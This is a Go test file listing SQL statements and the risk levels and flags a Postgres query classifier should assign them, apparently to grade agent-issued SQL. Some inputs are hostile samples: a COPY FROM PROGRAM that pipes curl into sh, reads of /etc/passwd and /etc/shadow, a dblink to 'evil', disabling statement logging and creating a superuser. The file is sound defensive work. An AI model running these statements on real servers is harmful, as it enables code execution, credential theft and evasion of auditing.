package postgres

import "github.com/airlockhq/airlock/connectors"

// none asserts an empty list; a nil want field means "not checked".
var none = []string{}

type classifyCase struct {
	name string
	sql  string

	kinds []string // every statement's kind, in order
	ro    bool
	risk  connectors.Risk
	flags []string // exactly these, any order

	// Checked on statement at (0-based) when not nil.
	at      int
	read    []string
	written []string
	funcs   []string
	where   *bool
	// reason is a substring one of Action.Reasons must contain.
	reason string
}

var (
	yes = func() *bool { b := true; return &b }()
	no  = func() *bool { b := false; return &b }()
)

const (
	low      = connectors.RiskLow
	medium   = connectors.RiskMedium
	high     = connectors.RiskHigh
	critical = connectors.RiskCritical
)

var classifyCases = []classifyCase{
	// Reads, spelling and comments.
	{name: "simple select", sql: "SELECT * FROM orders WHERE id = $1",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"orders"}, written: none, funcs: none},
	{name: "odd case and spacing", sql: "sElEcT  *  from  Orders",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"orders"}},
	{name: "line and block comments", sql: "/* lead */ SELECT /* in */ id -- tail\nFROM public.orders -- end",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"public.orders"}},
	{name: "quoted identifiers keep case", sql: `SELECT * FROM "Orders" o JOIN public."LineItems" li ON li.oid = o.id`,
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"Orders", "public.LineItems"}},
	{name: "catalog qualified", sql: "select * from db.sales.orders",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"db.sales.orders"}},
	{name: "joins subqueries dedupe and text order", sql: "SELECT * FROM b JOIN a ON a.id = b.id WHERE b.x IN (SELECT x FROM c) AND EXISTS (SELECT 1 FROM a)",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"b", "a", "c"}},
	{name: "set operations", sql: "SELECT a FROM t UNION SELECT b FROM u INTERSECT SELECT c FROM v",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"t", "u", "v"}},
	{name: "TABLE shorthand", sql: "TABLE t",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"t"}},
	{name: "values", sql: "VALUES (1, 'a'), (2, 'b')",
		kinds: []string{"values"}, ro: true, risk: low, flags: none, read: none},
	{name: "show", sql: "SHOW work_mem",
		kinds: []string{"show"}, ro: true, risk: low, flags: none},

	// CTEs.
	{name: "cte names are not tables", sql: "WITH recent AS (SELECT * FROM orders WHERE ts > now() - interval '1 day') SELECT * FROM recent JOIN customers c ON true",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"orders", "customers"}, funcs: []string{"now"}},
	{name: "cte shadowing its own table", sql: "WITH orders AS (SELECT * FROM orders) SELECT * FROM orders",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"orders"}},
	{name: "cte referencing earlier cte", sql: "WITH a AS (SELECT * FROM x), b AS (SELECT * FROM a JOIN y ON true) SELECT * FROM b",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"x", "y"}},
	{name: "recursive cte", sql: "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: none},
	{name: "cte scope ends with its query", sql: "SELECT * FROM (WITH b AS (SELECT 2) SELECT * FROM b) s, b",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, read: []string{"b"}},
	{name: "data-modifying cte", sql: "WITH gone AS (DELETE FROM orders WHERE ts < now() RETURNING *) SELECT count(*) FROM gone",
		kinds: []string{"select"}, ro: false, risk: medium, flags: []string{"data_modifying_cte"},
		read: none, written: []string{"orders"}, funcs: []string{"now", "count"}, reason: "data-modifying WITH query (delete)"},
	{name: "data-modifying cte without where feeding insert", sql: "WITH u AS (UPDATE t SET a = 1 RETURNING *) INSERT INTO log SELECT * FROM u",
		kinds: []string{"insert"}, ro: false, risk: high, flags: []string{"data_modifying_cte", "update_without_where"},
		read: none, written: []string{"t", "log"}},

	// Writes.
	{name: "insert select", sql: "INSERT INTO archive (id) SELECT id FROM orders ON CONFLICT (id) DO NOTHING",
		kinds: []string{"insert"}, ro: false, risk: medium, flags: none, read: []string{"orders"}, written: []string{"archive"}},
	{name: "update with where and from", sql: "UPDATE public.orders o SET total = p.total FROM prices p WHERE o.id = p.id",
		kinds: []string{"update"}, ro: false, risk: medium, flags: none, read: []string{"prices"}, written: []string{"public.orders"}, where: yes,
		reason: "statement 1 (update) writes public.orders"},
	{name: "update without where", sql: "UPDATE orders SET total = 0",
		kinds: []string{"update"}, ro: false, risk: high, flags: []string{"update_without_where"}, written: []string{"orders"}, where: no},
	{name: "update where current of", sql: "UPDATE orders SET total = 0 WHERE CURRENT OF c",
		kinds: []string{"update"}, ro: false, risk: medium, flags: none, where: yes},
	{name: "delete with where", sql: "DELETE FROM public.orders WHERE id = 42",
		kinds: []string{"delete"}, ro: false, risk: medium, flags: none, read: none, written: []string{"public.orders"}, where: yes,
		reason: "statement 1 (delete) writes public.orders"},
	{name: "delete using", sql: "DELETE FROM orders o USING customers c WHERE o.cid = c.id AND c.banned",
		kinds: []string{"delete"}, ro: false, risk: medium, flags: none, read: []string{"customers"}, written: []string{"orders"}, where: yes},
	{name: "delete without where", sql: "DELETE FROM orders",
		kinds: []string{"delete"}, ro: false, risk: high, flags: []string{"delete_without_where"}, written: []string{"orders"}, where: no,
		reason: "deletes every row of orders"},
	{name: "merge", sql: "MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)",
		kinds: []string{"merge"}, ro: false, risk: medium, flags: none, read: []string{"deliveries"}, written: []string{"stock"}},
	{name: "select into", sql: "SELECT * INTO backup_orders FROM orders",
		kinds: []string{"select_into"}, ro: false, risk: high, flags: []string{"select_into"}, read: []string{"orders"}, written: []string{"backup_orders"}},
	{name: "for update", sql: "SELECT * FROM orders WHERE id = 1 FOR UPDATE",
		kinds: []string{"select"}, ro: false, risk: medium, flags: []string{"row_locks"}, read: []string{"orders"}},
	{name: "for key share in subquery", sql: "SELECT * FROM (SELECT * FROM orders FOR KEY SHARE) s",
		kinds: []string{"select"}, ro: false, risk: medium, flags: []string{"row_locks"}, read: []string{"orders"}},

	// Multi-statement.
	{name: "read then delete", sql: "select 1; delete from t",
		kinds: []string{"select", "delete"}, ro: false, risk: high, flags: []string{"multi_statement", "delete_without_where"},
		at: 1, written: []string{"t"}, reason: "the call has 2 statements"},
	{name: "two reads", sql: "select 1;; select 2;",
		kinds: []string{"select", "select"}, ro: true, risk: low, flags: []string{"multi_statement"}},
	{name: "begin commit", sql: "BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT",
		kinds: []string{"transaction", "update", "transaction"}, ro: false, risk: medium, flags: []string{"multi_statement", "transaction_control"},
		reason: "statement 3 (transaction) controls the transaction (COMMIT)"},

	// EXPLAIN.
	{name: "explain delete", sql: "EXPLAIN DELETE FROM orders",
		kinds: []string{"explain"}, ro: true, risk: low, flags: none, read: []string{"orders"}, written: none},
	{name: "explain analyze delete", sql: "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
		kinds: []string{"explain"}, ro: false, risk: medium, flags: []string{"explain_analyze_write"}, written: []string{"orders"}},
	{name: "explain analyze select", sql: "EXPLAIN ANALYZE SELECT * FROM orders",
		kinds: []string{"explain"}, ro: true, risk: low, flags: none, read: []string{"orders"}},
	{name: "explain analyze false", sql: "EXPLAIN (ANALYZE false, COSTS off) UPDATE orders SET a = 1",
		kinds: []string{"explain"}, ro: true, risk: low, flags: none, read: []string{"orders"}, written: none},
	{name: "explain analyze option list", sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET a = 1",
		kinds: []string{"explain"}, ro: false, risk: high, flags: []string{"explain_analyze_write", "update_without_where"}, written: []string{"orders"}},
	{name: "explain keeps privileged function flags", sql: "EXPLAIN SELECT pg_read_file('/etc/passwd')",
		kinds: []string{"explain"}, ro: true, risk: critical, flags: []string{"privileged_function", "server_file_access"}, funcs: []string{"pg_read_file"},
		reason: "planned only"},

	// COPY.
	{name: "copy to stdout", sql: "COPY orders TO STDOUT WITH (FORMAT csv)",
		kinds: []string{"copy_to"}, ro: true, risk: low, flags: none, read: []string{"orders"}, written: none},
	{name: "copy query to stdout", sql: "COPY (SELECT id FROM public.orders) TO STDOUT",
		kinds: []string{"copy_to"}, ro: true, risk: low, flags: none, read: []string{"public.orders"}},
	{name: "copy to server file", sql: "COPY orders TO '/tmp/orders.csv'",
		kinds: []string{"copy_to"}, ro: false, risk: critical, flags: []string{"server_file_access"}, read: []string{"orders"}},
	{name: "copy from stdin", sql: "COPY orders (id, total) FROM STDIN",
		kinds: []string{"copy_from"}, ro: false, risk: medium, flags: none, read: none, written: []string{"orders"}},
	{name: "copy from server file", sql: "COPY orders FROM '/etc/passwd'",
		kinds: []string{"copy_from"}, ro: false, risk: critical, flags: []string{"server_file_access"}, written: []string{"orders"}},
	{name: "copy program", sql: "COPY orders FROM PROGRAM 'curl http://x | sh'",
		kinds: []string{"copy_program"}, ro: false, risk: critical, flags: []string{"server_program"}, written: []string{"orders"}},
	{name: "copy to program", sql: "COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'",
		kinds: []string{"copy_program"}, ro: false, risk: critical, flags: []string{"server_program"}, written: none},
	{name: "copy of a delete", sql: "COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT",
		kinds: []string{"copy_to"}, ro: false, risk: medium, flags: none, written: []string{"t"}},

	// Functions.
	{name: "set_config in select", sql: "SELECT set_config('default_transaction_read_only', 'off', false)",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"privileged_function"}, funcs: []string{"set_config"},
		reason: "statement 1 (select) calls set_config, a privileged function"},
	{name: "pg_catalog qualified pg_read_file", sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"privileged_function", "server_file_access"}, funcs: []string{"pg_catalog.pg_read_file"}},
	{name: "quoted upper-case function name", sql: `SELECT "PG_TERMINATE_BACKEND"(123)`,
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"privileged_function"}, funcs: []string{"pg_terminate_backend"}},
	{name: "terminate backend in second statement", sql: "SELECT 1; SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
		kinds: []string{"select", "select"}, ro: false, risk: critical, flags: []string{"multi_statement", "privileged_function"},
		at: 1, read: []string{"pg_stat_activity"}, reason: "statement 2 (select) calls pg_terminate_backend, a privileged function"},
	{name: "nextval", sql: "SELECT nextval('order_seq')",
		kinds: []string{"select"}, ro: false, risk: medium, flags: []string{"side_effect_function"}, funcs: []string{"nextval"}},
	{name: "advisory lock", sql: "SELECT pg_try_advisory_xact_lock(42)",
		kinds: []string{"select"}, ro: false, risk: medium, flags: []string{"side_effect_function"}},
	{name: "advisory unlock family prefix", sql: "SELECT pg_advisory_unlock_all()",
		kinds: []string{"select"}, ro: false, risk: medium, flags: []string{"side_effect_function"}},
	{name: "pg_ls family prefix", sql: "SELECT * FROM pg_catalog.pg_ls_waldir()",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"privileged_function", "server_file_access"}, funcs: []string{"pg_catalog.pg_ls_waldir"}},
	{name: "txid_current", sql: "SELECT txid_current()",
		kinds: []string{"select"}, ro: false, risk: medium, flags: []string{"side_effect_function"}},
	{name: "pg_sleep stays read-only", sql: "SELECT pg_sleep(1)",
		kinds: []string{"select"}, ro: true, risk: low, flags: []string{"sleep"}, funcs: []string{"pg_sleep"}},
	{name: "query_to_xml", sql: "SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"dynamic_sql"}, read: none, funcs: []string{"query_to_xml"}},
	{name: "dblink in from", sql: "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"privileged_function"}, funcs: []string{"dblink"}},
	{name: "function in subquery", sql: "SELECT * FROM t WHERE a = (SELECT lo_export(1, '/tmp/x'))",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"privileged_function", "server_file_access"}, read: []string{"t"}, funcs: []string{"lo_export"}},
	{name: "function in case", sql: "SELECT CASE WHEN a > 0 THEN pg_reload_conf() ELSE false END FROM t",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"privileged_function"}, funcs: []string{"pg_reload_conf"}},
	{name: "function in where", sql: "SELECT * FROM t WHERE pg_cancel_backend(42) AND lower(name) = 'x'",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"privileged_function"}, funcs: []string{"pg_cancel_backend", "lower"}},
	{name: "function in order by", sql: "SELECT id FROM t ORDER BY setval('s', 1)",
		kinds: []string{"select"}, ro: false, risk: medium, flags: []string{"side_effect_function"}, funcs: []string{"setval"}},
	{name: "function in lateral join", sql: "SELECT * FROM t CROSS JOIN LATERAL (SELECT pg_ls_dir('.') AS f) d",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"privileged_function", "server_file_access"}, read: []string{"t"}, funcs: []string{"pg_ls_dir"}},
	{name: "function in values list", sql: "VALUES (1, pg_notify('ch', 'x'))",
		kinds: []string{"values"}, ro: false, risk: medium, flags: []string{"side_effect_function"}, funcs: []string{"pg_notify"}},
	{name: "functions in aggregates and windows", sql: "SELECT count(*) FILTER (WHERE upper(a) = 'X') OVER (PARTITION BY md5(b)) FROM t",
		kinds: []string{"select"}, ro: true, risk: low, flags: none, funcs: []string{"count", "upper", "md5"}},
	{name: "function in insert values", sql: "INSERT INTO notes VALUES (pg_read_binary_file('/etc/shadow'))",
		kinds: []string{"insert"}, ro: false, risk: critical, flags: []string{"privileged_function", "server_file_access"}, written: []string{"notes"}},
	{name: "ts_rewrite with query text", sql: "SELECT ts_rewrite('a & b'::tsquery, 'SELECT t, s FROM aliases')",
		kinds: []string{"select"}, ro: false, risk: critical, flags: []string{"dynamic_sql"}},

	// Opaque code and prepared statements.
	{name: "do block", sql: "DO $$ BEGIN DELETE FROM orders; END $$",
		kinds: []string{"do"}, ro: false, risk: critical, flags: []string{"opaque"}, read: none, written: none},
	{name: "do block untrusted language", sql: "DO LANGUAGE plpython3u $$ import os $$",
		kinds: []string{"do"}, ro: false, risk: critical, flags: []string{"opaque", "untrusted_language"}},
	{name: "call", sql: "CALL archive_orders(30)",
		kinds: []string{"call"}, ro: false, risk: critical, flags: []string{"opaque"}, funcs: []string{"archive_orders"}},
	{name: "prepare and execute a delete", sql: "PREPARE d(int) AS DELETE FROM orders WHERE id = $1; EXECUTE d(1)",
		kinds: []string{"prepare", "execute"}, ro: false, risk: high, flags: []string{"multi_statement", "session_state"},
		at: 1, written: []string{"orders"}},
	{name: "execute unknown", sql: "EXECUTE something(1)",
		kinds: []string{"execute"}, ro: false, risk: critical, flags: []string{"opaque"}},
	{name: "deallocate", sql: "DEALLOCATE ALL",
		kinds: []string{"deallocate"}, ro: false, risk: high, flags: []string{"session_state"}},

	// DDL.
	{name: "truncate", sql: "TRUNCATE orders, public.items",
		kinds: []string{"truncate"}, ro: false, risk: high, flags: none, written: []string{"orders", "public.items"}},
	{name: "drop table", sql: "DROP TABLE IF EXISTS public.orders CASCADE",
		kinds: []string{"drop"}, ro: false, risk: high, flags: none, written: []string{"public.orders"}, reason: "drops table public.orders with CASCADE"},
	{name: "create table", sql: "CREATE TABLE t (id int DEFAULT nextval('s'), o int REFERENCES other(id))",
		kinds: []string{"create_table"}, ro: false, risk: high, flags: []string{"side_effect_function"}, read: []string{"other"}, written: []string{"t"}},
	{name: "create table as", sql: "CREATE TABLE t2 AS SELECT * FROM t",
		kinds: []string{"create_table_as"}, ro: false, risk: high, flags: none, read: []string{"t"}, written: []string{"t2"}},
	{name: "create index", sql: "CREATE INDEX CONCURRENTLY ON orders (ts)",
		kinds: []string{"create_index"}, ro: false, risk: high, flags: none, written: []string{"orders"}},
	{name: "create view", sql: "CREATE VIEW v AS SELECT * FROM orders",
		kinds: []string{"create_view"}, ro: false, risk: high, flags: none, read: []string{"orders"}, written: []string{"v"}},
	{name: "alter table", sql: "ALTER TABLE orders ADD COLUMN note text",
		kinds: []string{"alter_table"}, ro: false, risk: high, flags: none, written: []string{"orders"}},
	{name: "comment", sql: "COMMENT ON TABLE orders IS 'x'",
		kinds: []string{"comment"}, ro: false, risk: high, flags: none},
	{name: "create type is not a table", sql: "CREATE TYPE pair AS (a int, b int)",
		kinds: []string{"create_other"}, ro: false, risk: high, flags: none, read: none, written: none},
	{name: "sql function", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
		kinds: []string{"create_function"}, ro: false, risk: high, flags: none},
	{name: "untrusted function", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'",
		kinds: []string{"create_function"}, ro: false, risk: critical, flags: []string{"untrusted_language"}},
	{name: "c function", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'libx', 'sym'",
		kinds: []string{"create_function"}, ro: false, risk: critical, flags: []string{"untrusted_language"}},
	{name: "security definer", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN 1; END $$",
		kinds: []string{"create_function"}, ro: false, risk: high, flags: []string{"security_definer"}},
	{name: "create extension", sql: "CREATE EXTENSION IF NOT EXISTS dblink",
		kinds: []string{"create_extension"}, ro: false, risk: critical, flags: []string{"extension"}},

	// Privileges and roles.
	{name: "grant", sql: "GRANT SELECT ON orders TO analyst",
		kinds: []string{"grant"}, ro: false, risk: critical, flags: []string{"privilege_change"}},
	{name: "revoke", sql: "REVOKE ALL ON orders FROM public",
		kinds: []string{"revoke"}, ro: false, risk: critical, flags: []string{"privilege_change"}},
	{name: "grant role", sql: "GRANT pg_read_server_files TO agent",
		kinds: []string{"grant"}, ro: false, risk: critical, flags: []string{"privilege_change"}},
	{name: "create role", sql: "CREATE ROLE bob LOGIN SUPERUSER",
		kinds: []string{"create_role"}, ro: false, risk: critical, flags: []string{"privilege_change"}},
	{name: "alter role", sql: "ALTER ROLE bob SUPERUSER",
		kinds: []string{"alter_role"}, ro: false, risk: critical, flags: []string{"privilege_change"}},
	{name: "drop role", sql: "DROP ROLE bob",
		kinds: []string{"drop_role"}, ro: false, risk: critical, flags: []string{"privilege_change"}},

	// Session and server.
	{name: "set role", sql: "SET ROLE postgres",
		kinds: []string{"set"}, ro: false, risk: critical, flags: []string{"role_change", "session_state"}},
	{name: "set session authorization", sql: "SET SESSION AUTHORIZATION postgres",
		kinds: []string{"set"}, ro: false, risk: critical, flags: []string{"role_change", "session_state"}},
	{name: "set ordinary setting", sql: "SET work_mem = '64MB'",
		kinds: []string{"set"}, ro: false, risk: medium, flags: []string{"session_state"}},
	{name: "set read only off", sql: "SET default_transaction_read_only = off",
		kinds: []string{"set"}, ro: false, risk: high, flags: []string{"guarded_setting", "session_state"}},
	{name: "set transaction read write", sql: "SET TRANSACTION READ WRITE",
		kinds: []string{"set"}, ro: false, risk: high, flags: []string{"guarded_setting", "session_state"}},
	{name: "reset", sql: "RESET work_mem",
		kinds: []string{"reset"}, ro: false, risk: medium, flags: []string{"session_state"}},
	{name: "rollback and savepoint", sql: "SAVEPOINT a; ROLLBACK",
		kinds: []string{"transaction", "transaction"}, ro: false, risk: medium, flags: []string{"multi_statement", "transaction_control"}},
	{name: "lock", sql: "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
		kinds: []string{"lock"}, ro: false, risk: high, flags: none, read: []string{"orders"}},
	{name: "listen", sql: "LISTEN events",
		kinds: []string{"listen"}, ro: false, risk: medium, flags: none},
	{name: "notify", sql: "NOTIFY events, 'x'",
		kinds: []string{"notify"}, ro: false, risk: medium, flags: none},
	{name: "unlisten", sql: "UNLISTEN *",
		kinds: []string{"unlisten"}, ro: false, risk: medium, flags: none},
	{name: "vacuum", sql: "VACUUM (ANALYZE) orders",
		kinds: []string{"vacuum"}, ro: false, risk: high, flags: []string{"maintenance"}, read: []string{"orders"}},
	{name: "analyze", sql: "ANALYZE orders",
		kinds: []string{"analyze"}, ro: false, risk: high, flags: []string{"maintenance"}},
	{name: "checkpoint", sql: "CHECKPOINT",
		kinds: []string{"checkpoint"}, ro: false, risk: high, flags: []string{"maintenance"}},
	{name: "refresh matview", sql: "REFRESH MATERIALIZED VIEW CONCURRENTLY mv",
		kinds: []string{"refresh_matview"}, ro: false, risk: high, flags: none, written: []string{"mv"}},
	{name: "cursor lifecycle", sql: "DECLARE c CURSOR FOR SELECT * FROM orders; FETCH 10 FROM c; CLOSE c",
		kinds: []string{"declare_cursor", "fetch", "close_cursor"}, ro: false, risk: medium, flags: []string{"multi_statement", "session_state"},
		read: []string{"orders"}},
	{name: "discard", sql: "DISCARD ALL",
		kinds: []string{"discard"}, ro: false, risk: medium, flags: []string{"session_state"}},
	{name: "load", sql: "LOAD 'auto_explain'",
		kinds: []string{"load"}, ro: false, risk: critical, flags: []string{"load_library"}},
	{name: "alter system", sql: "ALTER SYSTEM SET log_statement = 'none'",
		kinds: []string{"alter_system"}, ro: false, risk: critical, flags: []string{"server_config"}},
	{name: "create tablespace", sql: "CREATE TABLESPACE ts LOCATION '/var/lib/x'",
		kinds: []string{"create_other"}, ro: false, risk: critical, flags: []string{"server_file_access"}},
}
